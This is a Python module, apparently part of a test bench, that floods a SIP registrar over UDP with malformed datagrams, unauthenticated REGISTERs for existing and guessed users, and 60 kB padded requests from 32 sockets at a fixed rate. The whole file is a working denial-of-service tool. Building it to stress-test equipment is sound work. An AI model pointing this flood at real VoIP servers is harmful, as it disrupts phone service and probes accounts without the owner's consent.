"""A SIP port flood from one host: malformed datagrams, unauthenticated REGISTERs for users
that exist and users that do not, and REGISTERs padded to 60 kB, from many source ports,
at a fixed rate for a fixed time. Run it where the attacker sits (the bench runs it in the
LAN namespace)::

    python -m jbcbench.sipflood --target 10.0.1.1:5060 --seconds 5 --rate 4000

Prints one JSON line: what was sent.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import socket
import sys
import time

SOURCES = 32


def messages(target: str, users: list[str], rng: random.Random) -> list[bytes]:
    host = target.rsplit(":", 1)[0]
    out = [b"\x00\xff garbage " * 20, b"INVITE\r\n\r\n", b"SIP/2.0 200 OK\r\n\r\n",
           b"REGISTER sip:" + host.encode() + b" SIP/2.0\r\nVia: nonsense\r\n\r\n"]
    for user in [*users, "9999", "admin", "100"]:
        call_id = f"flood-{rng.getrandbits(64):x}"
        for pad in (0, 60000):
            extra = f"X-Pad: {'a' * pad}\r\n" if pad else ""
            out.append((f"REGISTER sip:{host} SIP/2.0\r\n"
                        f"Via: SIP/2.0/UDP 192.0.2.1:5060;branch=z9hG4bK{call_id}\r\n"
                        f"Max-Forwards: 70\r\nFrom: <sip:{user}@{host}>;tag=f1\r\n"
                        f"To: <sip:{user}@{host}>\r\nCall-ID: {call_id}\r\nCSeq: 1 REGISTER\r\n"
                        f"Contact: <sip:{user}@192.0.2.1:5060>\r\nExpires: 60\r\n{extra}"
                        "Content-Length: 0\r\n\r\n").encode())
    return out


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--target", required=True, help="host:port of the SIP registrar")
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--rate", type=int, default=4000, help="datagrams per second")
    parser.add_argument("--users", default="101,102,103,104", help="real users to name")
    args = parser.parse_args(argv)
    host, port = args.target.rsplit(":", 1)
    rng = random.Random(os.getpid())
    payloads = messages(args.target, args.users.split(","), rng)
    sockets = []
    for _ in range(SOURCES):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.setblocking(False)
        sockets.append(sock)
    sent = dropped = 0
    started = time.monotonic()
    interval = 1.0 / max(args.rate, 1)
    next_at = started
    while time.monotonic() - started < args.seconds:
        now = time.monotonic()
        if now < next_at:
            time.sleep(min(next_at - now, 0.01))
            continue
        next_at += interval
        try:
            rng.choice(sockets).sendto(rng.choice(payloads), (host, int(port)))
            sent += 1
        except OSError:
            dropped += 1  # a full socket buffer: the flood outruns the host, as floods do
    print(json.dumps({"sent": sent, "not_sent": dropped, "seconds": args.seconds,
                      "sources": SOURCES}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
